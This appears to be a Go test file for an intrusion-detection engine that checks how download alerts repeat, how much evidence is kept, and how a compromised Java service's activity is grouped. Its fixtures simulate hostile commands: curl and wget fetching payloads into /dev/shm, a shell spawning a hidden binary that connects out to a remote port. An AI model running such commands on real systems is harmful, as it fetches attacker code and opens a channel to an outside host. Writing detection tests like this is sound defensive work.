package engine

import (
	"fmt"
	"slices"
	"testing"

	"baize/internal/alert"
	"baize/internal/engine/enginetest"
)

// TestARepeatAddsWhatItNamesAnew: a second download from elsewhere to another
// file is a repeat, and evidence.
func TestARepeatAddsWhatItNamesAnew(t *testing.T) {
	w, events := enginetest.Record()
	session := w.Host("web-1").Login()
	commands := []string{"/usr/bin/curl http://203.0.113.9/t -o /dev/shm/a", "/usr/bin/curl http://203.0.113.77/u -o /dev/shm/b"}
	session.Spawn("/usr/bin/curl", "http://203.0.113.9/t", "-o", "/dev/shm/a")
	e := New(Config{Rules: testRules(t)})
	first := collect(t, e, *events)
	*events = nil
	session.Spawn("/usr/bin/curl", "http://203.0.113.77/u", "-o", "/dev/shm/b")
	second := collect(t, e, *events)
	if len(first.alerts) != 1 || len(second.alerts) != 1 {
		t.Fatalf("%d and %d alerts, want one that repeats", len(first.alerts), len(second.alerts))
	}
	for id, a := range second.alerts {
		if got := commandsOf(a); !slices.Equal(got, commands) {
			t.Errorf("commands %q, want %q", got, commands)
		}
		if got := commandsOf(first.alerts[id]); !slices.Equal(got, commands[:1]) {
			t.Errorf("the revision before changed: %q", got)
		}
	}
}

func commandsOf(a alert.Alert) (list []string) {
	for _, e := range a.Entities {
		if e.Type == alert.EntityCommand {
			list = append(list, e.Value)
		}
	}
	return list
}

func TestEvidenceIsBounded(t *testing.T) {
	w, events := enginetest.Record()
	session := w.Host("web-1").Login()
	for i := range 4 * maxEvidence {
		session.Spawn("/usr/bin/curl", fmt.Sprintf("http://203.0.113.9/%d", i))
	}
	s := run(t, *events)
	if len(s.alerts) != 1 {
		t.Fatalf("%d alerts", len(s.alerts))
	}
	for _, a := range s.alerts {
		if len(commandsOf(a)) != maxCommands || len(a.Entities) > maxEvidence || a.Count != 4*maxEvidence {
			t.Fatalf("%d commands among %d entities, count %d", len(commandsOf(a)), len(a.Entities), a.Count)
		}
	}
}

// TestTheSessionOfWhoStartedAServiceTiesNobody: a service started by hand runs
// in its administrator's audit session, and so does every intruder in it.
func TestTheSessionOfWhoStartedAServiceTiesNobody(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	enginetest.First.Round(java)
	java.Accept("198.51.100.99")
	sh := java.Fork().Exec("/bin/sh", "-c", "python3 -c 'import pty' && wget -q --no-check-certificate https://203.0.113.50/x")
	sh.Spawn("/tmp/.font-unix/sysd").Connect("203.0.113.51", 8443)
	for _, ev := range *events {
		if ev.Process != nil {
			ev.Process.Session = 7
		}
	}
	if open := runOpen(t, *events); len(open) != 2 {
		t.Fatalf("%d incidents, want 2: %+v", len(open), open)
	}
}
